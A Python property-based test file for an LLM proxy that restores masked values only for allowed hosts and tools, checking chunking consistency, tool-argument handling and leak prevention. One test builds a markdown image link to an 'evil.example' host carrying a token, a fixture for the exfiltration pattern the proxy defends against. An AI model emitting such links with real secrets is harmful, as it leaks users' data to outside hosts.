"""What is guarded does not depend on how a stream is cut, and nothing goes into a URL of a host that is not allowed."""

from __future__ import annotations

import json

from hypothesis import given
from hypothesis import strategies as st

from proxy.core.guards import Guards
from proxy.core.jsontext import parse
from proxy.core.jsonwriting import JsonWriting
from proxy.core.restorer import ChannelRestorer, Originals, PlainWriting, RestoreTally, restore
from proxy.core.sse import EventSplitter
from proxy.core.streams import EventReader, StreamRestorer
from proxy.dialects.openai_chat import CHAT
from tests.property.core_cases import ISSUED, bounded, cut

GUARDS = Guards(("good.example",), ("crm",))
TOKENS = sorted(ISSUED)
_PIECES = (
    *TOKENS[:3],
    *("https://", "http:", "//", "\\\\", "www.", "evil.example", "good.example", "/", "?q=", "@", ":", "&colon;"),
    *("](", "![x](", ")", "(", "<", ">", '"', "'", "=", " ", "\n", "\\n", "mailto:", ",", "a" * 3000, "https:\\/\\/"),
)
texts = st.lists(st.sampled_from(_PIECES), max_size=25).map("".join)


def whole(text: str, *, in_json: bool) -> tuple[str, RestoreTally]:
    """The text restored at once."""
    tally = RestoreTally()
    return restore(text, Originals(ISSUED, guards=GUARDS), tally, JsonWriting() if in_json else None), tally


@bounded(300)
@given(texts, st.lists(st.integers(1, 40), min_size=1, max_size=4), st.booleans())
def test_however_a_text_is_cut_the_same_is_guarded(text: str, sizes: list[int], in_json: bool) -> None:  # noqa: FBT001
    expected, counted = whole(text, in_json=in_json)
    tally = RestoreTally()
    channel = ChannelRestorer(Originals(ISSUED, guards=GUARDS), tally, JsonWriting() if in_json else PlainWriting())
    pieces = [piece for part in cut(text, sizes) for piece in channel.feed(part)] + channel.finish()
    assert "".join(piece.text for piece in pieces) == expected
    assert tally == counted


@bounded(200)
@given(texts, texts.filter(lambda text: not set(text) & set(" \n\"'<>()=\\")), st.sampled_from(TOKENS[:3]))
def test_behind_the_host_of_a_link_nothing_comes_back(before: str, behind: str, token: str) -> None:
    if " " in token or "good.example" in behind:
        return
    result, _ = whole(f"{before}\n\n> ![x](https://evil.example/{behind}{token})", in_json=False)
    assert result.endswith(f"{token})")


@bounded(60)
@given(
    st.sampled_from(("crm", "web")), st.lists(st.integers(1, 9), min_size=1, max_size=4), st.sampled_from(TOKENS[:3])
)
def test_a_stream_of_tool_arguments_is_restored_for_allowed_tools_only(name: str, sizes: list[int], token: str) -> None:
    arguments = json.dumps({"to": f"write to {token} now"})

    def chunk(function: dict[str, str]) -> bytes:
        delta = {"tool_calls": [{"index": 0, "id": "call_1", "function": function}]}
        return b"data: " + json.dumps({"choices": [{"index": 0, "delta": delta}]}).encode() + b"\n\n"

    request = parse('{"model":"m"}')
    stream = StreamRestorer(
        EventReader(lambda data: CHAT.stream_event(data, request)), Originals(ISSUED, guards=GUARDS), RestoreTally()
    )
    raw = chunk({"name": name, "arguments": ""}) + b"".join(
        chunk({"arguments": part}) for part in cut(arguments, sizes)
    )
    sent = [piece for event in EventSplitter().feed(raw) for piece in stream.feed(event)] + stream.finish()
    read = [json.loads(event.data or "") for event in EventSplitter().feed(b"".join(sent))]
    deltas = [event["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"] for event in read]
    made = json.loads("".join(deltas))["to"]
    assert made == f"write to {ISSUED[token] if name == 'crm' else token} now"
